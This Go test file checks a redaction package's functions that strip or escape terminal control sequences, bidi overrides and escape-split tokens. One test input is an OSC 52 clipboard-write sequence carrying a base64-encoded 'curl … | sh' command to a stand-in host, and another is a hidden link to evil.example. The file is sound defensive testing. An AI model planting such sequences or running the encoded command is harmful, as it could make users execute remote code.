package redact

import (
	"encoding/json"
	"strings"
	"testing"
)

// plantedControls are the sequences a hostile model, cluster or operator
// paste could plant; none may survive Strip.
var plantedControls = []string{"\x1b", "\x07", "\u009b", "\u009d", "\u202e", "\u2066", "\r", "\x00", "\x7f"}

func TestStrip(t *testing.T) {
	checkClean(t, "Strip", Strip, []stringCase{
		{"plain", "get pods -n shop\n\tok", "get pods -n shop\n\tok"},
		{"colour", "get pods \x1b[31mred\x1b[0m", "get pods red"},
		{"osc 52 clipboard", "a\x1b]52;c;Y3VybCBldmlsLnNoIHwgc2g=\x07b", "ab"},
		{"osc 8 link", "\x1b]8;;https://evil.example/\x1b\\click\x1b]8;;\x1b\\", "click"},
		{"bel", "ding\x07dong", "dingdong"},
		{"c1 csi", "x\u009b31my", "xy"},
		{"c1 osc", "x\u009d0;title\u009cy", "xy"},
		{"bidi override", "get pods \u202eredis\u202c", "get pods redis"},
		{"bidi isolates and marks", "\u2066a\u2069\u200fb\u061c", "ab"},
		{"lone cr", "progress 10%\rprogress 100%", "progress 10%progress 100%"},
		{"crlf", "a\r\nb", "a\nb"},
		{"invalid utf-8", "a\xffb", "a\uFFFDb"},
		{"other c0 and del", "a\x00b\x08c\x7fd", "abcd"},
		{"japanese kept", "ポッド web-1 は保留中です", "ポッド web-1 は保留中です"},
	})
}

// stringCase is one input of a string function and what it must return.
type stringCase struct{ name, in, want string }

// checkClean checks that f, called name, returns what each case wants, and
// that what it returns is clean: Strip leaves it as it is (so Strip is
// idempotent) and no planted control is left in it.
func checkClean(t *testing.T, name string, f func(string) string, tests []stringCase) {
	t.Helper()
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			got := f(tt.in)
			if got != tt.want {
				t.Errorf("%s(%q) = %q, want %q", name, tt.in, got, tt.want)
			}
			if again := Strip(got); again != got {
				t.Errorf("%s(%q) = %q, which Strip changes to %q", name, tt.in, got, again)
			}
			for _, c := range plantedControls {
				if strings.Contains(got, c) {
					t.Errorf("%s(%q) = %q still holds %q", name, tt.in, got, c)
				}
			}
		})
	}
}

// TestStripKeepsJSONValid: Strip removes characters and never adds
// backslashes, so a JSON document stays valid (Terminal's \x07 would not).
func TestStripKeepsJSONValid(t *testing.T) {
	doc, _ := json.Marshal(map[string]string{"a": "x\x7fy\u202ez\u0085", "b": "ok"})
	out := Strip(string(doc))
	if !json.Valid([]byte(out)) {
		t.Fatalf("Strip broke the JSON document: %s", out)
	}
	if strings.ContainsAny(out, "\x7f\u202e\u0085") {
		t.Errorf("controls left in %q", out)
	}
}

func TestStripRedactor(t *testing.T) {
	// An escape sequence inside a token hides it from the redactor until stripped.
	in := "Authorization: Bearer abcd\x1b[0mefgh12345678"
	out, n := StripRedactor{}.Redact(in)
	if n == 0 || strings.Contains(out, "efgh12345678") || strings.Contains(out, "\x1b") {
		t.Errorf("StripRedactor.Redact(%q) = %q, %d", in, out, n)
	}
}

func TestVisible(t *testing.T) {
	checkClean(t, "Visible", Visible, []stringCase{
		{"plain", "kubectl get pods\n\tok", "kubectl get pods\n\tok"},
		{"esc", "a\x1b[31mb", `a\u001b[31mb`},
		{"bel and cr", "a\a\rb", `a\u0007\u000db`},
		{"c1 csi", "a\u009b2Jb", `a\u009b2Jb`},
		{"bidi", "x\u202ey", `x\u202ey`},
		{"del", "a\x7fb", `a\u007fb`},
		{"invalid utf-8", "a\xffb", "a\uFFFDb"},
	})
	// A JSON document stays valid and decodes to the same strings.
	doc, _ := json.Marshal([]string{"a\u009bb\u202ec\x7f"})
	var back []string
	if err := json.Unmarshal([]byte(Visible(string(doc))), &back); err != nil || back[0] != "a\u009bb\u202ec\x7f" {
		t.Errorf("Visible changed a JSON document: %q, %v", back, err)
	}
}
